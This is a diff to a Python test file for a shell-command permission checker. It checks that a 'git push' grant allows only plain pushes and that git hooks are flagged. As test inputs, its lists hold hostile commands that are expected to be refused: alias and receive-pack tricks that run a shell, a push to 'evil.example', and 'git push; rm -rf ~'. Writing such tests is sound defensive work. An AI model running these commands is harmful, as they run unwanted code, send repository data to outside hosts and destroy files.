@@ -1,5 +1,6 @@
 """Rules of the user, and answers that become rules."""
 
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -46,10 +47,24 @@ def test_in_a_sandbox_the_exact_command_is_remembered():
     assert verdict("rm -rf .").grants == ()
 
 
-def test_a_grant_allows_that_and_nothing_more():
+@pytest.fixture
+def repository(tmp_path: Path) -> Path:
+    (tmp_path / ".git" / "hooks").mkdir(parents=True)
+    (tmp_path / ".git" / "hooks" / "pre-push.sample").touch()
+    settings = '[remote "origin"]\n\turl = x\n[include]\n\tpath = ../more\n'
+    (tmp_path / ".git" / "config").write_text(settings)
+    (tmp_path / "more").write_text('  [Remote "up.stream"]\n\turl = y\n')
+    return tmp_path
+
+
+def test_a_grant_allows_that_and_nothing_more(repository: Path):
     rules = RULES.with_grants(verdict("git push", **OUTSIDE).grants)
-    assert decision("git push origin main", rules=rules, **OUTSIDE) == "allow"
-    assert decision("timeout 60 git push", rules=rules, **OUTSIDE) == "allow"
+    inside = {"rules": rules, "workspace": repository, **OUTSIDE}
+    for command in (
+        "git push origin main", "git push", "git push -u origin main:main", "git push up.stream",
+        "timeout 60 git push",
+    ):  # fmt: skip
+        assert decision(command, **inside) == "allow", command
     for command in (
         "git -c alias.push='!sh' push", "git push --receive-pack=./x", "git push | sh",
         "git push; git send-email", "git push > x", "LD_PRELOAD=x git push",
@@ -59,9 +74,25 @@ def test_a_grant_allows_that_and_nothing_more():
         "git push --rece=./x", "git push --exe=x",
         "git -C sub push", "cd sub && git push", "git --git-dir=x push", "pushd x; git push",
         "cd x || true; git push", "git push --recurse-submodules=on-demand",
+        "git push evil.example:x main", "git push folder", "git push --repo=x", "git push --rep x",
     ):  # fmt: skip
-        assert decision(command, rules=rules, **OUTSIDE) == "ask", command
-    assert decision("git push; rm -rf ~", rules=rules, **OUTSIDE) == "deny"
+        assert decision(command, **inside) == "ask", command
+    assert decision("git push; rm -rf ~", **inside) == "deny"
+
+
+@pytest.mark.parametrize("folder", [".git/hooks", "kept"])
+def test_a_grant_runs_no_hooks(repository: Path, folder: str):
+    inside = {"rules": RULES.with_grants([("git", "push"), ("git", "add")]), **OUTSIDE}
+    inside |= {"workspace": repository}
+    if folder == "kept":
+        with (repository / ".git" / "config").open("a") as settings:
+            settings.write("[core]\n\thooksPath = kept\n")
+        (repository / "kept").mkdir()
+        (repository / ".git" / "hooks" / "pre-push").touch()  # which git does not run then
+    assert decision("git push", **inside) == "allow"
+    (repository / folder / "pre-push").touch()
+    assert "the hook pre-push" in verdict("git push", **inside).reasons[0]
+    assert decision("git add -A", **inside) == "allow"
 
 
 def test_deny_beats_ask_beats_allow():
